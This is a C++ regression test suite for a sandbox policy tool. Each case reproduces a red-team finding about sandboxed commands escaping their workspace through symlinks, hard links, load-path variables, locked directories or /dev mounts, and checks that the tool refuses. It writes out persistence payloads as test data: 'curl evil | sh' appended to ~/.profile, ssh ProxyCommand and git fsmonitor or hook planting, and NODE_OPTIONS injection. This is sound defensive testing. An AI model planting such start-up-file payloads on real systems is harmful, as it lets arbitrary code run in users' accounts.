#include <sys/stat.h>
#include <unistd.h>

#include <boost/test/data/monomorphic.hpp>
#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>
#include <csignal>
#include <filesystem>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "pty.hpp"
#include "sandbox_fixture.hpp"

// Red team round 17 (hunt17, docs/redteam-2026-12.md): members of issue 14's classes
// nobody listed. Each case is a finding's reproduction, observed from the host.
namespace zpolicy::tests::kernel {
namespace bdata = boost::unit_test::data;

BOOST_AUTO_TEST_SUITE(kernel_hunt17)

namespace {

RunResult sh_in(const Sandbox& box, const std::string& cwd, const std::string& script) {
  RunSpec spec;
  spec.cwd = cwd;
  spec.command = {"sh", "-c", script + "; echo " + std::string(kDoneMarker)};
  return box.run(spec);
}

}  // namespace

// H17-1: ZP003 read a *tree* entry (~/.ssh, ~/.config/git, ~/.config/systemd,
// ~/.config/fish) by its own name only; a symlink inside it into the workspace (a dotfiles
// repository: `~/.ssh/config -> ~/dotfiles/ssh_config`, a unit `systemctl --user link`
// made) let `cd ~/dotfiles && zpolicy run` rewrite what ssh, git, systemd and fish read
// as the user's own (ProxyCommand, core.fsmonitor, ExecStart), dangling links too (the
// sandbox creates the target). Both callers ran with exit 0. Now ZP003 refuses (exit 3).
BOOST_DATA_TEST_CASE(a_symlink_inside_a_start_up_tree_into_the_workspace_is_refused,
                     bdata::make(kCallers), caller) {
  struct Member {
    const char* dir;   // below the home
    const char* link;  // its name there
    const char* up;    // from dir back to the home
  };
  for (const Member m : {Member{".ssh", "config", ".."}, Member{".config/git", "config", "../.."},
                         Member{".config/systemd/user", "evil.service", "../../.."},
                         Member{".config/fish", "config.fish", "../.."}}) {
    for (const bool dangling : {false, true}) {
      Sandbox box(caller);
      const std::string dots = box.home() + "/dotfiles";
      box.make_dir(dots);
      box.make_dir(box.home() + "/" + m.dir);
      if (!dangling) box.write_file(dots + "/target", "orig\n");
      const std::string link = box.home() + "/" + m.dir + "/" + m.link;
      BOOST_REQUIRE(symlink((std::string(m.up) + "/dotfiles/target").c_str(), link.c_str()) == 0);
      const RunResult r = sh_in(box, dots, "echo 'ProxyCommand evil' > target");
      const auto after = read_file(link);
      BOOST_TEST((dangling ? !after.has_value() : after.value_or("") == "orig\n"),
                 m.dir << "/" << m.link << (dangling ? " (dangling)" : "")
                       << " rewritten: " << r.describe());
      BOOST_TEST(r.exit_code == 3, m.dir << ": " << r.describe());
      BOOST_TEST(r.err.find("[ZP003]") != std::string::npos, m.dir << ": " << r.describe());
    }
  }
}

// H17-2: a start-up file hard-linked into the workspace (`ln ~/dotfiles/profile
// ~/.profile`, a dotfiles manager that links instead of symlinking) was not ZP003, so the
// sandbox appended to ~/.profile through the workspace's name (both callers, exit 0). ZP004
// refused the same for the policy file; now ZP003 refuses a listed file (or one in a
// listed tree's top levels) whose other name lies in the writable root. One whose other
// name lies elsewhere refuses nothing (control: another workspace on the filesystem).
BOOST_DATA_TEST_CASE(a_start_up_file_hard_linked_into_the_workspace_is_refused,
                     bdata::make(kCallers), caller) {
  for (const char* name : {".profile", ".ssh/authorized_keys"}) {
    Sandbox box(caller);
    const std::string dots = box.home() + "/dotfiles";
    box.make_dir(dots);
    box.make_dir(box.home() + "/.ssh");
    box.write_file(dots + "/linked", "orig\n");
    const std::string host_name = box.home() + "/" + name;
    unlink(host_name.c_str());
    BOOST_REQUIRE(link((dots + "/linked").c_str(), host_name.c_str()) == 0);
    const RunResult r = sh_in(box, dots, "echo 'curl evil | sh' >> linked");
    BOOST_TEST(read_file(host_name).value_or("") == "orig\n", name << " changed: " << r.describe());
    BOOST_TEST(r.exit_code == 3, name << ": " << r.describe());
    BOOST_TEST(r.err.find("[ZP003]") != std::string::npos, name << ": " << r.describe());
    box.make_dir(box.home() + "/src/proj");
    const RunResult elsewhere = sh_in(box, box.home() + "/src/proj", "true");
    BOOST_TEST(elsewhere.completed(), name << ": control: " << elsewhere.describe());
  }
}

// H17-3: the `**/.git` walk skipped a directory it could neither list nor write; but one
// the caller owns (mode 0111, 0000, 0100; or 0644, 0400: listed but not searchable, so the
// repository below could not be opened) the sandbox may chmod back: it made `locked` 0755
// and planted a hook and a core.fsmonitor in the repository below it, which the walk never
// saw (nobody, exit 0; root lists every directory). Now such a directory refuses the run
// as one the sandbox could write into already does.
BOOST_AUTO_TEST_CASE(a_nested_repository_below_an_unlistable_directory_of_the_callers_is_refused) {
  for (const mode_t mode : {0111, 0000, 0100, 0644, 0400}) {
    Sandbox box(Caller::Nobody);
    box.make_dir(box.ws("locked/repo/.git/hooks"));
    box.write_file(box.ws("locked/repo/.git/HEAD"), "ref: refs/heads/main\n");
    box.write_file(box.ws("locked/repo/.git/config"), "orig\n");
    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), mode) == 0);
    const RunResult r = box.sh(
        "chmod 755 locked && echo evil > locked/repo/.git/hooks/post-checkout && "
        "echo '[core] fsmonitor = evil' >> locked/repo/.git/config");
    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), 0755) == 0);
    BOOST_TEST(!exists(box.ws("locked/repo/.git/hooks/post-checkout")),
               std::oct << mode << ": hook planted: " << r.describe());
    BOOST_TEST(read_file(box.ws("locked/repo/.git/config")).value_or("") == "orig\n",
               std::oct << mode << ": " << r.describe());
    BOOST_TEST(r.exit_code == 2, std::oct << mode << ": " << r.describe());
  }
}

// H17-5: `protect: [packages/*/.env]` skipped `packages/x` when it was a symlink to
// `libs/x` (a monorepo's linked package): `libs/x/.env` lies outside what the pattern
// walks, so the sandbox rewrote `packages/x/.env` and created `packages/y/.env` through
// the links (both callers), where the literal `packages/x/.env` refuses the run ("crosses
// a symlink inside a writable root"). The same for a deny pattern inside the workspace:
// `${WORKSPACE}/packages/*/secret` left `packages/x/secret` readable. Now a pattern's
// component crossing a link in a writable root refuses the run, as the literal does.
BOOST_DATA_TEST_CASE(a_star_pattern_crossing_a_symlinked_directory_refuses_the_run,
                     bdata::make(kCallers), caller) {
  for (const bool deny : {false, true}) {
    Sandbox box(caller);
    box.make_dir(box.ws("packages/a"));
    box.make_dir(box.ws("libs/x"));
    box.make_dir(box.ws("libs/y"));
    box.write_file(box.ws("libs/x/.env"), "X=1\n");
    box.write_file(box.ws("libs/x/secret"), "TOPSECRET\n");
    BOOST_REQUIRE(symlink("../libs/x", box.ws("packages/x").c_str()) == 0);
    BOOST_REQUIRE(symlink("../libs/y", box.ws("packages/y").c_str()) == 0);
    const std::string policy = box.write_policy(
        "p.yaml", std::string("zpolicy: 1\nmode: workspace-write\nfilesystem:\n  write: "
                              "[\"${WORKSPACE}\"]\n") +
                      (deny ? "  deny: [\"${WORKSPACE}/packages/*/secret\"]\n"
                            : "  protect: [.git, \"packages/*/.env\"]\n"));
    const RunResult r = box.sh(
        "cat packages/x/secret; echo 'NODE_OPTIONS=--require=/tmp/e.js' >> packages/x/.env; "
        "echo E=1 > packages/y/.env",
        {"--policy", policy});
    BOOST_TEST(r.out.find("TOPSECRET") == std::string::npos, deny << ": read: " << r.describe());
    BOOST_TEST(read_file(box.ws("libs/x/.env")).value_or("") == "X=1\n",
               deny << ": rewritten: " << r.describe());
    BOOST_TEST(!exists(box.ws("libs/y/.env")), deny << ": created: " << r.describe());
    BOOST_TEST(r.exit_code == 2, deny << ": " << r.describe());
    BOOST_TEST(r.err.find("symlink inside a writable root") != std::string::npos,
               deny << ": " << r.describe());
  }
}

// H17-6: a deny pattern outside every writable root skipped the host's symlinks its `*`
// or `**` met (`deny: [/srv/*/secret]`, `/srv/**/secret` with `/srv/x -> /data/x`), where
// the literal `/srv/x/secret` follows them (host layout) and denies the file: the sandbox
// read `/data/x/secret` under both names (both callers). Now the walk follows a host link
// and denies the matches at their target's name.
BOOST_DATA_TEST_CASE(a_deny_pattern_follows_host_symlinks_as_a_literal_deny_does,
                     bdata::make(kCallers), caller) {
  for (const char* pattern : {"srv/*/secret", "srv/**/secret"}) {
    Sandbox box(caller);
    const std::string srv = box.base() + "/srv", data = box.base() + "/data";
    box.make_dir(srv + "/a");
    box.make_dir(data + "/x");
    box.write_file(data + "/x/secret", "TOPSECRET\n");
    BOOST_REQUIRE(symlink("../data/x", (srv + "/x").c_str()) == 0);
    const std::string policy =
        box.write_policy("p.yaml",
                         "zpolicy: 1\nmode: workspace-write\nfilesystem:\n  write: "
                         "[\"${WORKSPACE}\"]\n  deny: [\"" +
                             box.base() + "/" + pattern + "\"]\n");
    const RunResult r =
        box.sh("cat " + srv + "/x/secret " + data + "/x/secret", {"--policy", policy});
    BOOST_TEST(r.out.find("TOPSECRET") == std::string::npos, pattern << ": " << r.describe());
    BOOST_TEST(r.completed(), pattern << ": " << r.describe());
  }
}

// H17-7: the search for other names of protected files (E4b's hard-link aliases) skipped a
// directory it could not open; one of the caller's own (mode 0111) held `locked/alias`,
// a hard link to `.env` or `.git/config` (or one of mode 0644, listed but not searchable,
// so that the alias could not be looked at): the sandbox chmodded it back and wrote the
// protected file through the alias (nobody, exit 0; a policy without patterns, so
// H17-3's walk does not look). Now such a directory refuses the run when a protected file
// has other names; without any, the run goes ahead (control).
BOOST_AUTO_TEST_CASE(a_hard_link_to_a_protected_file_in_an_unlistable_directory_is_refused) {
  for (const auto& [target, mode] : std::vector<std::pair<const char*, mode_t>>{
           {".env", 0111}, {".git/config", 0111}, {".env", 0644}, {"", 0111}}) {
    Sandbox box(Caller::Nobody);
    box.make_dir(box.ws(".git/objects"));
    box.make_dir(box.ws(".git/refs"));
    box.make_dir(box.ws("locked"));
    box.write_file(box.ws(".git/HEAD"), "ref: refs/heads/main\n");
    box.write_file(box.ws(".git/config"), "orig\n");
    box.write_file(box.ws(".env"), "orig\n");
    const std::string name = *target ? target : ".env";
    if (*target) BOOST_REQUIRE(link(box.ws(target).c_str(), box.ws("locked/alias").c_str()) == 0);
    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), mode) == 0);
    const std::string policy = box.write_policy(
        "p.yaml",
        "zpolicy: 1\nmode: workspace-write\nfilesystem:\n  write: [\"${WORKSPACE}\"]\n"
        "  protect: [.git, .env]\n");
    const RunResult r =
        box.sh("chmod 755 locked && echo evil >> locked/alias", {"--policy", policy});
    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), 0755) == 0);
    BOOST_TEST(read_file(box.ws(name)).value_or("") == "orig\n", name << ": " << r.describe());
    if (*target) {
      BOOST_TEST(r.exit_code == 2, target << ": " << r.describe());
    } else {
      BOOST_TEST(r.completed(), "control: " << r.describe());
    }
  }
}

// H17-4 (red17's R17-2, fixed in compiler/resolve/git_index.cpp): the index of a protected
// git directory was read whole into memory before its header was looked at. A sandbox makes
// a new nested repository (writable during its run, a documented limit) whose index is a
// 1 GiB sparse file; the next run in the workspace read it at about 25 s and 1 GB of
// memory a GiB and, under a 512 MiB limit, died with "internal error: std::bad_alloc"
// (exit 125); without a limit a 1 TiB sparse index exhausts the host's memory. Now a
// located refusal (exit 2) within the limit: the index is read as it is parsed, and one
// over 256 MiB is refused unread.
BOOST_DATA_TEST_CASE(a_huge_index_planted_in_a_new_repository_is_refused_within_bounded_memory,
                     bdata::make(kCallers), caller) {
  Sandbox box(caller);
  const RunResult plant = box.sh("git init -q sub && truncate -s 1G sub/.git/index");
  BOOST_REQUIRE_MESSAGE(plant.completed(), plant.describe());
  RunSpec spec;
  spec.root_prefix = {"/usr/bin/prlimit", "--as=536870912"};
  spec.command = {"true"};
  spec.limit = std::chrono::seconds(120);
  const RunResult r = box.run(spec);
  BOOST_TEST(r.exit_code == 2, r.describe());
  BOOST_TEST(r.err.find("bad_alloc") == std::string::npos, r.describe());
  BOOST_TEST(r.err.find(box.ws("sub/.git/index")) != std::string::npos, r.describe());
}

// H17-8: ZP003 read the caller's $PATH (E3, A12-3) but not the other search paths the
// host's next programs load code from: with `export PYTHONPATH=$PWD/src` or `export
// LD_LIBRARY_PATH=$PWD/build` in the caller's shell, the sandbox planted
// src/sitecustomize.py (every later python3 of that shell ran it) and a
// build/libpcre2-8.so.0 shim (every later git), both callers, exit 0. Now each such
// variable's entries (an empty one is the working directory, as in $PATH), and the files
// LD_PRELOAD, BASH_ENV and ENV name, are judged as $PATH's are, and $XDG_CONFIG_HOME and
// $ZDOTDIR (git's, fish's, systemd's, zsh's start-up files) as ZP003's trees. The command's own
// value given with --env NAME=VALUE is not zpolicy's environment: it runs (control).
BOOST_DATA_TEST_CASE(the_callers_load_paths_into_the_workspace_are_refused, bdata::make(kCallers),
                     caller) {
  struct Member {
    std::string variable, value;  // relative to the workspace when not absolute
  };
  for (const Member& m : {Member{"PYTHONPATH", "src"}, Member{"LD_LIBRARY_PATH", "build"},
                          Member{"LD_LIBRARY_PATH", ":/usr/local/lib"},
                          Member{"BASH_ENV", "env.sh"}, Member{"LD_PRELOAD", "build/p.so"},
                          Member{"XDG_CONFIG_HOME", "src"}, Member{"ZDOTDIR", ""}}) {
    Sandbox box(caller);
    box.make_dir(box.ws("src"));
    box.make_dir(box.ws("build"));
    const std::string value = m.value.empty()          ? box.workspace()
                              : m.value.front() == ':' ? m.value
                                                       : box.ws(m.value);
    RunSpec spec;
    spec.extra_env = {m.variable + "=" + value};
    spec.command = {"sh", "-c",
                    "echo 'import os' > src/sitecustomize.py; echo x > build/libz.so.1; echo "
                    "'echo evil' > env.sh; echo " +
                        std::string(kDoneMarker)};
    const RunResult r = box.run(spec);
    const std::string what = m.variable + "=" + m.value;
    BOOST_TEST(!exists(box.ws("src/sitecustomize.py")), what << ": planted: " << r.describe());
    BOOST_TEST(r.exit_code == 3, what << ": " << r.describe());
    BOOST_TEST(r.err.find("$" + m.variable) != std::string::npos, what << ": " << r.describe());
  }
  Sandbox box(caller);
  const RunResult control =
      box.sh("echo \"$PYTHONPATH\"", {"--env", "PYTHONPATH=" + box.ws("src")});
  BOOST_TEST(control.completed(), control.describe());
  BOOST_TEST(control.out.find(box.ws("src")) != std::string::npos, control.describe());
}

// H17-9: zpolicy restored the caller's terminal after the run, a timeout and the signals it
// handled (INT, TERM, HUP); any other catchable signal whose default action ends a process
// (SIGUSR1, SIGUSR2, SIGALRM, SIGPIPE, SIGXCPU, SIGVTALRM, a real-time signal) killed it
// with the default action, and the sandbox's `stty -echo -icanon` outlived the run (both
// callers). Now they are forwarded as SIGTERM is (SIGPIPE is taken and dropped) and the
// terminal is restored.
BOOST_DATA_TEST_CASE(no_catchable_signal_leaves_the_terminal_as_the_sandbox_set_it,
                     bdata::make(kCallers), caller) {
  for (const int sig : {SIGUSR1, SIGALRM, SIGXCPU, SIGRTMIN + 3, SIGPIPE}) {
    Sandbox box(caller);
    Pty pty;
    BOOST_TEST_REQUIRE(pty.echo_and_canonical());
    RunSpec spec;
    spec.stdin_fd = pty.slave;
    spec.limit = std::chrono::seconds(20);
    spec.command = {"/bin/sh", "-c", "stty -echo -icanon && touch changed && sleep 30"};
    Running running = box.start(spec);
    const bool changed =
        wait_until([&] { return exists(box.ws("changed")); }, std::chrono::seconds(10));
    kill(running.pid, sig);
    if (sig == SIGPIPE) {
      // Not the command's: zpolicy goes on, and ends on SIGTERM.
      std::this_thread::sleep_for(std::chrono::milliseconds(300));
      kill(running.pid, SIGTERM);
    }
    const RunResult r = box.finish(running);
    BOOST_TEST_REQUIRE(changed, sig << ": " << r.describe());
    BOOST_TEST(pty.echo_and_canonical(), sig << ": the sandbox's stty outlived the run\n"
                                             << r.describe());
    BOOST_TEST(r.exit_code == 128 + (sig == SIGPIPE ? SIGTERM : sig), sig << ": " << r.describe());
    BOOST_TEST(!r.hit_limit, sig << ": " << r.describe());
  }
}

// H17-11: a chroot build tree in the workspace with the host's /dev in it (debootstrap's
// `mount --bind /dev rootfs/dev`, or a devtmpfs mounted there) was ZP013 and ZP003 only,
// both acceptable: with `--accept ZP013 --accept ZP003` a root-started sandbox created
// `rootfs/dev/h17-…`, an entry of the host's /dev (and could remove /dev/null). statfs
// tells devtmpfs from no tmpfs; the mount table's type does. Now ZP017 (never accepted).
BOOST_DATA_TEST_CASE(the_hosts_dev_in_a_writable_root_is_never_accepted, bdata::make(kCallers),
                     caller) {
  for (const char* mount : {"mount --bind /dev \"$1\"", "mount -t devtmpfs devtmpfs \"$1\""}) {
    Sandbox box(caller);
    box.make_dir(box.ws("rootfs/dev"));
    const std::string planted = "/dev/h17-planted-" + unique_token();
    RunSpec spec;
    spec.root_prefix = in_private_mount_namespace(std::string(mount) + " && shift && exec \"$@\"",
                                                  {box.ws("rootfs/dev")});
    spec.options = {"--accept", "ZP013", "--accept", "ZP003"};
    spec.command = {"sh", "-c", "touch rootfs" + planted};
    const RunResult r = box.run(spec);
    const bool escaped = exists(planted);
    if (escaped) unlink(planted.c_str());
    BOOST_TEST(!escaped, mount << ": " << planted << " created: " << r.describe());
    BOOST_TEST(r.exit_code == 3, mount << ": " << r.describe());
    BOOST_TEST(r.err.find("[ZP017]") != std::string::npos, mount << ": " << r.describe());
  }
}

// H17-12: a directory on a protected path's way that the caller cannot create in (`data`
// of mode 0555, a dataset made read-only; 0644) made every run with the default policy fail
// with exit 125, "cannot create placeholder 'data/agent-sessions'" (issue 14 §4's class:
// the regular file on the way). Now it is protected read-only as that file is: the run
// goes ahead, and the sandbox can neither chmod it nor create the protected path; a
// workspace of mode 0555 becomes read-only as a whole, for the same reason. Root
// creates placeholders anywhere; the member is the unprivileged caller's.
BOOST_AUTO_TEST_CASE(a_read_only_directory_on_a_protected_paths_way_runs_and_stays) {
  for (const mode_t mode : {0555, 0644}) {
    Sandbox box(Caller::Nobody);
    box.make_dir(box.ws("data"));
    box.write_file(box.ws("data/dataset.csv"), "a,b\n");
    BOOST_REQUIRE(chmod(box.ws("data").c_str(), mode) == 0);
    const RunResult r = box.sh(
        "chmod 755 data; mkdir -p data/agent-sessions && echo evil > data/agent-sessions/x; "
        "echo ran");
    BOOST_REQUIRE(chmod(box.ws("data").c_str(), 0755) == 0);
    BOOST_TEST(r.completed(), std::oct << mode << ": " << r.describe());
    BOOST_TEST(!exists(box.ws("data/agent-sessions/x")), std::oct << mode << ": " << r.describe());
    BOOST_TEST(read_file(box.ws("data/dataset.csv")).value_or("") == "a,b\n",
               std::oct << mode << ": " << r.describe());
  }
  // The workspace itself read-only (0555): the missing `.env` cannot be made there, so the
  // root is protected as a whole; the run goes ahead and creates nothing.
  Sandbox box(Caller::Nobody);
  BOOST_REQUIRE(chmod(box.workspace().c_str(), 0555) == 0);
  const RunResult r = box.sh("chmod 755 .; echo evil > .env; echo ran");
  BOOST_REQUIRE(chmod(box.workspace().c_str(), 0755) == 0);
  BOOST_TEST(r.completed(), "read-only workspace: " << r.describe());
  BOOST_TEST(!exists(box.ws(".env")), "read-only workspace: " << r.describe());
}

// H17-12, root too: a workspace on a read-only mount (a read-only share, a squashfs) failed
// every run with exit 125, "cannot create placeholder …: Read-only file system". Now the
// root is protected whole and the command runs, reading it.
BOOST_DATA_TEST_CASE(a_workspace_on_a_read_only_mount_runs, bdata::make(kCallers), caller) {
  Sandbox box(caller);
  box.write_file(box.ws("readme"), "hi\n");
  RunSpec spec;
  spec.root_prefix = in_private_mount_namespace(
      "mount --bind \"$1\" \"$1\" && mount -o remount,bind,ro \"$1\" && shift && exec \"$@\"",
      {box.workspace()});
  spec.command = {"sh", "-c", "cat readme; echo " + std::string(kDoneMarker)};
  const RunResult r = box.run(spec);
  BOOST_TEST(r.completed(), r.describe());
  BOOST_TEST(r.out.find("hi") != std::string::npos, r.describe());
}

// H17-13 (by reading, then reproduced): ZP003 judged its list against the caller's home
// only; inside another account's home a root-started run could write that user's trees
// (`~alice/.config/git`, `~alice/.ssh`): kuid 0 wrote them. Reproduced with root's own
// home as "another account's" (the caller's HOME elsewhere): in the workspace
// `/root/.config/git` the sandbox wrote root's git config on main. Now that account's list
// counts. Root only (no
// other caller can write there); skipped when /root/.config/git exists, which it would
// have to create and remove.
BOOST_AUTO_TEST_CASE(a_workspace_in_another_accounts_start_up_tree_is_refused) {
  const std::string tree = "/root/.config/git";
  if (exists(tree)) return;
  Sandbox box(Caller::Root);
  box.make_dir(tree);
  RunSpec spec;
  spec.cwd = tree;
  spec.command = {"sh", "-c", "echo '[core] fsmonitor = evil' > config"};
  const RunResult r = box.run(spec);
  const bool planted = exists(tree + "/config");
  std::error_code ec;
  std::filesystem::remove_all(tree, ec);
  BOOST_TEST(!planted, r.describe());
  BOOST_TEST(r.exit_code == 3, r.describe());
  BOOST_TEST(r.err.find("of user 'root'") != std::string::npos, r.describe());
}

// H17-10: a '$' in a host name is a character, not a variable. A workspace below `w$s`
// and a nested repository `a$b/.git` were refused on every run as a malformed artifact
// (and a sandbox could plant such a name to block later runs); they run now, the nested
// repository read-only. So does a name that starts with "${" (session 20; more in
// kernel_dollar20).
BOOST_DATA_TEST_CASE(a_dollar_in_a_host_name_runs_and_its_repository_stays_read_only,
                     bdata::make(kCallers), caller) {
  Sandbox box(caller);
  box.make_dir(box.ws("w$s/a$b/.git/hooks"));
  box.write_file(box.ws("w$s/a$b/.git/HEAD"), "ref: refs/heads/main\n");
  box.write_file(box.ws("w$s/a$b/.git/config"), "orig\n");
  RunSpec spec;
  spec.cwd = box.ws("w$s");
  spec.command = {"/bin/sh", "-c",
                  "echo '[core] fsmonitor = evil' >> 'a$b/.git/config'; "
                  "echo evil > 'a$b/.git/hooks/post-checkout'; touch made; echo ran"};
  const RunResult r = box.run(spec);
  BOOST_TEST(r.exit_code == 0, r.describe());
  BOOST_TEST(r.out.find("ran") != std::string::npos, r.describe());
  BOOST_TEST(exists(box.ws("w$s/made")), r.describe());
  BOOST_TEST(read_file(box.ws("w$s/a$b/.git/config")).value_or("") == "orig\n", r.describe());
  BOOST_TEST(!exists(box.ws("w$s/a$b/.git/hooks/post-checkout")), r.describe());

  box.make_dir(box.ws("w$s/${WORKSPACE}/.git"));
  spec.command = {"/bin/sh", "-c", "touch made-too '${WORKSPACE}/.git/config'"};
  const RunResult again = box.run(spec);
  BOOST_TEST(again.exit_code != 3, again.describe());
  BOOST_TEST(exists(box.ws("w$s/made-too")), again.describe());
  BOOST_TEST(!exists(box.ws("w$s/${WORKSPACE}/.git/config")), again.describe());
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace zpolicy::tests::kernel
